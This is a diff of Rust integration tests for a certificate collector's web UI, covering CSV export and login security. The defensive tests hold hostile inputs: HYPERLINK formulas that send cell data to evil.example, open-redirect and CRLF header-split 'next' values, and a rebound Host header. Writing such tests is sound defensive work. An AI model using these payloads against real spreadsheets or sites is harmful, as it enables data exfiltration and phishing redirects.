@@ -1,10 +1,17 @@
 //! The web UI: list, search, certificate page and statistics read back in headless Chromium
-//! (screenshots kept under target/tmp/collector-ui/), the CSV export, and logins.
+//! (screenshots kept under target/tmp/collector-ui/), the CSV export (as a French spreadsheet
+//! reads it), and logins: required by default, behind a stand-in reverse proxy too; the
+//! explicit no-login mode only for this machine; where a login may send the browser; the cap on
+//! attempts.
 
 mod support;
 
 use reprise_cert::verdict::Decision;
-use support::{Server, Signed, Spec, Station, cli, cli_ok, dump_dom, enroll, request, screenshot};
+use std::time::{Duration, Instant};
+
+use support::{
+    Proxy, Server, Signed, Spec, Station, cli, cli_ok, dump_dom, enroll, request, screenshot,
+};
 
 /// A database with a small workshop: two stations, two sites, passed and failed disks,
 /// refurbished and recycled machines over two months. Returns the certificates.
@@ -71,7 +78,7 @@ fn workshop(db: &str) -> Vec<Signed> {
             "Latitude 5490",
         ),
     ];
-    let server = Server::start(db, &[]);
+    let server = Server::open(db, &[]);
     let mut out = Vec::new();
     for (serial, site, at, failed, decision, product) in specs {
         let st = if site.starts_with("Lycée") {
@@ -105,7 +112,7 @@ fn list_and_search_in_chromium() {
     let db = dir.path().join("c.db");
     let db = db.to_str().unwrap();
     let certs = workshop(db);
-    let server = Server::start(db, &[]);
+    let server = Server::open(db, &[]);
     let plain = server.get("/certificates");
     let csp = plain.header("content-security-policy").unwrap();
     assert!(
@@ -184,7 +191,7 @@ fn certificate_page_in_chromium() {
     let db = dir.path().join("c.db");
     let db = db.to_str().unwrap();
     let certs = workshop(db);
-    let server = Server::start(db, &["--public-url", "http://collector.example:8080/"]);
+    let server = Server::open(db, &["--public-url", "http://collector.localhost:8080/"]);
     let failed = &certs[1];
     let url = server.url(&format!("/c/{}", failed.hex()));
     let dom = dump_dom(&format!("{url}?lang=fr"));
@@ -192,7 +199,10 @@ fn certificate_page_in_chromium() {
     assert!(dom.contains(&failed.id) && dom.contains("SN-101"), "{dom}");
     assert!(dom.contains("<svg"), "QR code: {dom}");
     assert!(
-        dom.contains(&format!("http://collector.example:8080/c/{}", failed.hex())),
+        dom.contains(&format!(
+            "http://collector.localhost:8080/c/{}",
+            failed.hex()
+        )),
         "the QR URL uses --public-url: {dom}"
     );
     // Chain position: #2 of stick-a, after #1.
@@ -221,7 +231,7 @@ fn statistics_in_chromium() {
     let db = dir.path().join("c.db");
     let db = db.to_str().unwrap();
     workshop(db);
-    let server = Server::start(db, &[]);
+    let server = Server::open(db, &[]);
     let dom = dump_dom(&server.url("/stats?lang=en"));
     assert!(
         dom.contains("<svg") && dom.contains("id=\"chart\""),
@@ -260,7 +270,7 @@ fn csv_exports_what_the_list_shows() {
     let db = dir.path().join("c.db");
     let db = db.to_str().unwrap();
     let certs = workshop(db);
-    let server = Server::start(db, &[]);
+    let server = Server::open(db, &[]);
     let r = server.get("/certificates.csv?site=Pasteur&decision=refurbish");
     assert_eq!(r.status, 200);
     assert!(r.header("content-type").unwrap().starts_with("text/csv"));
@@ -465,4 +475,349 @@ fn listening_beyond_loopback_requires_a_login() {
     assert_eq!(r.status, 303);
     assert!(r.header("location").unwrap().starts_with("/login"));
     let _ = cli_ok(&["list", "--db", db]);
+}
+
+/// The cells of a CSV text as a spreadsheet reads it with `sep` as the separator: a cell that
+/// starts with `"` is quoted until the next lone `"` (`""` is a quote), whatever follows up to
+/// the separator is kept; a line break outside quotes ends the row.
+fn spreadsheet_cells(text: &str, sep: char) -> Vec<Vec<String>> {
+    let mut rows = vec![Vec::new()];
+    let mut cell = String::new();
+    let mut chars = text.chars().peekable();
+    let mut at_start = true;
+    let mut quoted = false;
+    while let Some(c) = chars.next() {
+        if quoted {
+            if c == '"' {
+                if chars.peek() == Some(&'"') {
+                    chars.next();
+                    cell.push('"');
+                } else {
+                    quoted = false;
+                }
+            } else {
+                cell.push(c);
+            }
+            continue;
+        }
+        match c {
+            '"' if at_start => {
+                quoted = true;
+                at_start = false;
+            }
+            c if c == sep => {
+                rows.last_mut().unwrap().push(std::mem::take(&mut cell));
+                at_start = true;
+            }
+            '\r' if chars.peek() == Some(&'\n') => {}
+            '\n' => {
+                rows.last_mut().unwrap().push(std::mem::take(&mut cell));
+                rows.push(Vec::new());
+                at_start = true;
+            }
+            c => {
+                cell.push(c);
+                at_start = false;
+            }
+        }
+    }
+    if !cell.is_empty() {
+        rows.last_mut().unwrap().push(cell);
+    }
+    rows.retain(|r| !r.is_empty());
+    rows
+}
+
+/// A cell a spreadsheet would run as a formula.
+fn formula(cell: &str) -> bool {
+    cell.trim_start_matches([' ', '"'])
+        .starts_with(['=', '+', '-', '@', '\t', '\r'])
+}
+
+#[test]
+fn csv_opens_safely_in_a_french_spreadsheet() {
+    let dir = tempfile::tempdir().unwrap();
+    let db = dir.path().join("c.db");
+    let db = db.to_str().unwrap();
+    let mut st = Station::new();
+    enroll(db, &st, "stick-1", "Lycée Hugo");
+    let server = Server::open(db, &[]);
+    // Donor-controlled strings (SMBIOS, disk model) and what stations type (operator, site,
+    // organisation), with a formula after a `;` or a `,`, and at their start.
+    let mut hostile = Vec::new();
+    for sep in [";", ",", ""] {
+        for start in ["=", "+", "-", "@", "\t=", "\r="] {
+            hostile.push(format!(
+                "Lycée{sep}{start}HYPERLINK(\"http://evil.example/?\"&A1;\"clic\")"
+            ));
+        }
+    }
+    for (n, text) in hostile.iter().enumerate() {
+        let mut c = st
+            .make(&Spec::default(), n as u64 + 1, st.previous.clone())
+            .cert;
+        let id = &mut c.machine.identity;
+        id.vendor = Some(format!("LENOVO;{text}"));
+        id.product = Some(format!("20L5{text}"));
+        id.version = Some(format!("ThinkPad{text}"));
+        id.serial = Some(format!("PF1{text}"));
+        c.issuer.site = format!("Site{text}");
+        c.issuer.operator = format!("Amina{text}");
+        c.issuer.organisation = Some(format!("Asso{text}"));
+        c.sanitization[0].device.model = Some(format!("Samsung{text}"));
+        let signed = st.seal(c);
+        st.previous = Some(signed.digest.clone());
+        assert_eq!(server.upload(&signed.bytes).status, 201, "{text:?}");
+    }
+    let csv = server.get("/certificates.csv").text();
+    // Read with `;` (French locale) and with `,` (RFC 4180): no cell is a formula.
+    for sep in [';', ','] {
+        let rows = spreadsheet_cells(&csv, sep);
+        assert!(rows.len() > hostile.len(), "{sep:?}: {} rows", rows.len());
+        for cell in rows.iter().flatten() {
+            assert!(
+                !formula(cell),
+                "with {sep:?}, a formula cell {cell:?} in\n{csv}"
+            );
+        }
+    }
+    // Read as written (RFC 4180): the values are there, a `'` before each formula start.
+    let rows = spreadsheet_cells(&csv, ',');
+    assert_eq!(rows[0].len(), 19);
+    for row in &rows[1..] {
+        assert_eq!(row.len(), 19, "{row:?}");
+        let vendor = row[4].replace('\'', "");
+        assert!(
+            hostile.iter().any(|h| vendor == format!("LENOVO;{h}")),
+            "{vendor:?}"
+        );
+    }
+}
+
+/// A running `serve` that should have refused to start: waits for its exit (at most 10 s) and
+/// returns its stderr.
+fn refused_to_serve(db: &str, extra: &[&str]) -> String {
+    let mut child = std::process::Command::new(support::BIN)
+        .args(["serve", "--listen", "127.0.0.1:0", "--db", db])
+        .args(extra)
+        .stdout(std::process::Stdio::null())
+        .stderr(std::process::Stdio::piped())
+        .spawn()
+        .unwrap();
+    let start = Instant::now();
+    let status = loop {
+        if let Some(status) = child.try_wait().unwrap() {
+            break status;
+        }
+        if start.elapsed() > Duration::from_secs(10) {
+            let _ = child.kill();
+            let _ = child.wait();
+            panic!("serve {extra:?} did not refuse to start");
+        }
+        std::thread::sleep(Duration::from_millis(50));
+    };
+    let mut err = String::new();
+    std::io::Read::read_to_string(&mut child.stderr.take().unwrap(), &mut err).unwrap();
+    assert_eq!(status.code(), Some(1), "{err}");
+    err
+}
+
+/// The setup of a collector behind an https reverse proxy: it listens on loopback with a public
+/// URL. Every request then arrives from 127.0.0.1, and pages still need a login.
+#[test]
+fn behind_a_reverse_proxy_pages_need_a_login() {
+    let dir = tempfile::tempdir().unwrap();
+    let db = dir.path().join("c.db");
+    let db = db.to_str().unwrap();
+    let certs = workshop(db);
+    let server = Server::start(db, &["--public-url", "https://reprise.example.org"]);
+    let proxy = Proxy::start(
+        server.addr,
+        &[
+            ("X-Forwarded-For", "203.0.113.7"),
+            ("X-Forwarded-Proto", "https"),
+        ],
+    );
+    let hex = certs[0].hex();
+    for path in [
+        "/certificates".to_string(),
+        "/certificates.csv".to_string(),
+        "/stats".to_string(),
+        "/stations".to_string(),
+        format!("/c/{hex}"),
+        format!("/c/{hex}.json"),
+    ] {
+        for addr in [proxy.addr, server.addr] {
+            let r = request(addr, "GET", &path, &[], b"");
+            assert_eq!(r.status, 303, "{path} through {addr}: {}", r.text());
+            assert!(r.header("location").unwrap().starts_with("/login?next="));
+            assert!(!r.text().contains("SN-100"), "{path}");
+        }
+    }
+    // The API needs no login (the signature is the authentication), through the proxy too.
+    let r = request(
+        proxy.addr,
+        "POST",
+        "/api/v1/certificates",
+        &[("Content-Type", "application/json")],
+        &certs[0].bytes,
+    );
+    assert_eq!(r.status, 200, "{}", r.text());
+    assert!(
+        r.json()["url"]
+            .as_str()
+            .unwrap()
+            .starts_with("https://reprise.example.org/c/")
+    );
+}
+
+#[test]
+fn the_no_login_mode_serves_this_machine_only() {
+    let dir = tempfile::tempdir().unwrap();
+    let db = dir.path().join("c.db");
+    let db = db.to_str().unwrap();
+    workshop(db);
+    // Refused with a public URL elsewhere, or listening beyond loopback.
+    let err = refused_to_serve(
+        db,
+        &["--no-login", "--public-url", "https://reprise.example.org"],
+    );
+    assert!(
+        err.contains("--no-login") && err.contains("--public-url"),
+        "{err}"
+    );
+    let err = refused_to_serve(
+        db,
+        &[
+            "--no-login",
+            "--public-url",
+            "http://localhost@10.0.5.1:8080",
+        ],
+    );
+    assert!(err.contains("--no-login"), "{err}");
+    let mut child = std::process::Command::new(support::BIN)
+        .args(["serve", "--no-login", "--listen", "0.0.0.0:0", "--db", db])
+        .stdout(std::process::Stdio::null())
+        .stderr(std::process::Stdio::piped())
+        .spawn()
+        .unwrap();
+    let out = child.wait().unwrap();
+    assert_eq!(out.code(), Some(1), "--no-login --listen 0.0.0.0 refused");
+    // On loopback, with a loopback public URL: open to this machine...
+    let server = Server::open(db, &["--public-url", "http://localhost:8080"]);
+    assert_eq!(server.get("/certificates").status, 200);
+    assert_eq!(server.get("/certificates.csv").status, 200);
+    // ...but not to requests that came through a proxy, or that name another host.
+    let proxy = Proxy::start(server.addr, &[("X-Forwarded-For", "203.0.113.7")]);
+    for path in ["/certificates", "/certificates.csv", "/stats"] {
+        let r = request(proxy.addr, "GET", path, &[], b"");
+        assert_eq!(r.status, 403, "{path} through a proxy: {}", r.text());
+        assert!(!r.text().contains("SN-100"));
+    }
+    for header in [
+        ("Forwarded", "for=203.0.113.7;proto=https"),
+        ("X-Forwarded-For", "203.0.113.7"),
+        ("X-Real-IP", "203.0.113.7"),
+    ] {
+        let r = request(server.addr, "GET", "/certificates.csv", &[header], b"");
+        assert_eq!(r.status, 403, "{header:?}: {}", r.text());
+    }
+    // A page asked under another name (a web page whose name was rebound to 127.0.0.1).
+    let host = |name: &str| {
+        let head =
+            format!("GET /certificates.csv HTTP/1.1\r\nHost: {name}\r\nConnection: close\r\n\r\n");
+        support::raw(server.addr, head.as_bytes())
+    };
+    assert_eq!(host("rebound.example:8080").status, 403);
+    assert_eq!(host("localhost:8080").status, 200);
+    assert_eq!(host(&server.addr.to_string()).status, 200);
+}
+
+/// A user, and the CSRF cookie and token of a fresh login form.
+fn login_form(server: &Server, db: &str) -> (String, String) {
+    let out = cli(
+        &["user", "add", "amina", "--db", db],
+        Some("correct horse battery\n"),
+    );
+    assert!(out.status.success());
+    let page = server.get("/login");
+    let csrf = cookie_value(set_cookie(&page, "reprise_csrf").unwrap());
+    (format!("reprise_csrf={csrf}"), csrf)
+}
+
+fn post_login(server: &Server, cookie: &str, body: &str, client: &str) -> support::Resp {
+    request(
+        server.addr,
+        "POST",
+        "/login",
+        &[
+            ("Content-Type", "application/x-www-form-urlencoded"),
+            ("Cookie", cookie),
+            ("X-Forwarded-For", client),
+        ],
+        body.as_bytes(),
+    )
+}
+
+#[test]
+fn after_login_the_browser_goes_only_to_a_path_of_this_site() {
+    let dir = tempfile::tempdir().unwrap();
+    let db = dir.path().join("c.db");
+    let db = db.to_str().unwrap();
+    let server = Server::start(db, &[]);
+    let (cookie, csrf) = login_form(&server, db);
+    let login = |next: &str| {
+        let r = post_login(
+            &server,
+            &cookie,
+            &format!("user=amina&password=correct+horse+battery&csrf={csrf}&next={next}"),
+            "198.51.100.1",
+        );
+        assert_eq!(r.status, 303, "{next}: {}", r.text());
+        r.header("location").unwrap().to_string()
+    };
+    assert_eq!(login("%2Fstats%3Flang%3Den"), "/stats?lang=en");
+    for bad in [
+        "%2F%09%2Fevil.example", // "/<tab>/evil.example"
+        "%2F%5Cevil.example",    // "/\\evil.example"
+        "%5C%5Cevil.example",    // "\\\\evil.example"
+        "%2F%2Fevil.example",    // "//evil.example"
+        "https%3A%2F%2Fevil.example%2F",
+        "%2F%0D%0ALocation%3A+x", // a header split
+    ] {
+        assert_eq!(login(bad), "/certificates", "{bad}");
+    }
+    // The form carries only a safe `next` too.
+    let page = server.get("/login?next=%2F%09%2Fevil.example").text();
+    assert!(
+        page.contains("name=\"next\" value=\"/certificates\""),
+        "{page}"
+    );
+}
+
+#[test]
+fn login_attempts_are_capped_per_client() {
+    let dir = tempfile::tempdir().unwrap();
+    let db = dir.path().join("c.db");
+    let db = db.to_str().unwrap();
+    let server = Server::start(db, &["--login-attempts", "3"]);
+    let (cookie, csrf) = login_form(&server, db);
+    let wrong = format!("user=amina&password=guess&csrf={csrf}");
+    let right = format!("user=amina&password=correct+horse+battery&csrf={csrf}");
+    // A client behind the local proxy: 3 attempts, then 429 even with the right password.
+    for _ in 0..3 {
+        assert_eq!(
+            post_login(&server, &cookie, &wrong, "203.0.113.7").status,
+            401
+        );
+    }
+    let r = post_login(&server, &cookie, &right, "203.0.113.7");
+    assert_eq!(r.status, 429, "{}", r.text());
+    let wait: u64 = r.header("retry-after").unwrap().parse().unwrap();
+    assert!((1..=60).contains(&wait), "{wait}");
+    assert!(set_cookie(&r, "reprise_session").is_none());
+    // Another client is not held up by it.
+    let ok = post_login(&server, &cookie, &right, "203.0.113.8");
+    assert_eq!(ok.status, 303, "{}", ok.text());
+    assert!(set_cookie(&ok, "reprise_session").is_some());
 }
